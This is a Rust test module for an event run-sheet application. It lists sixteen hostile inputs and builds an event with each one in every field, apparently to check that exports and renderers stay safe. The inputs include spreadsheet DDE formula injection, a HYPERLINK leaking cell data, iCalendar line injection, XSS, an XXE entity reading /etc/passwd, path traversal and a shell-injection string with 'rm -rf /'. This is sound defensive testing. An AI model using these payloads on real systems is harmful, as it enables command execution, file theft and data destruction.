//! Files, names and texts that somebody made to do harm, or that look as if.

mod exports;
mod paths;
mod pictures;
mod press;
mod readers;
mod signs;
mod workbooks;

use jiff::civil::date;
use runsheet::model::{
    Appearance, Edit, Event, EventId, Lang, Name, Offset, Participant, Role, Room, Session,
    SessionKind, Step, Text, Who,
};

/// What people could type that another program would obey.
const TYPED: [&str; 16] = [
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://example.com/?\"&A1,\"x\")",
    "x\nATTENDEE:mailto:mallory@example.com\nBEGIN:VEVENT",
    "x\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR",
    "a\tb\nc\td\"e;f,g",
    "#import \"/etc/passwd\": *\n#panic()",
    "<script>alert(1)</script><!--]]>&lol;",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>&a;",
    "../../../tmp/x",
    "CON",
    "$(touch /tmp/x) `id` ; rm -rf / && %PATH% !x",
    "\u{feff}=1+1",
    "\u{202e}\u{1b}[31m=1+1\u{7}\u{0}",
];

/// An event in which every text is one of these, and each of them stands in every field.
fn event_of(texts: &[&str]) -> Event {
    let mut event = Event::empty(EventId::new());
    let text = |typed: &str| Text::en(typed).with(&Lang::ZH_HANT, typed);
    let mut details = event.details.clone();
    details.title = text(texts[0]);
    details.theme = text(texts[0]);
    details.venue = text(texts[0]);
    details.time_zone = "Asia/Hong_Kong".into();
    details.days = [date(2025, 6, 3)].into();
    event.apply(&Edit::Details(Box::new(details))).unwrap();
    for typed in texts {
        let mut person = Participant::new();
        for lang in [Lang::EN, Lang::ZH_HANT] {
            person.name.set(&lang, Name::new(typed, typed, typed));
        }
        person.post = text(typed);
        person.biography = text(typed);
        person.contact.phone = (*typed).into();
        let room = Room::new(text(typed));
        let mut session = Session::new(SessionKind::Keynote, date(2025, 6, 3));
        session.title = text(typed);
        session.summary = text(typed);
        session.remarks = (*typed).into();
        session.officer = (*typed).into();
        session.room = Some(room.id);
        session.people.push(Appearance {
            who: Who::Person(person.id),
            role: Role::Speaker,
            position: (*typed).to_owned(),
        });
        session.steps.push(Step {
            offset: Offset::default(),
            text: text(typed),
            cues: Vec::new(),
        });
        event.apply(&person.into()).unwrap();
        event.apply(&room.into()).unwrap();
        event.apply(&session.into()).unwrap();
    }
    event
}
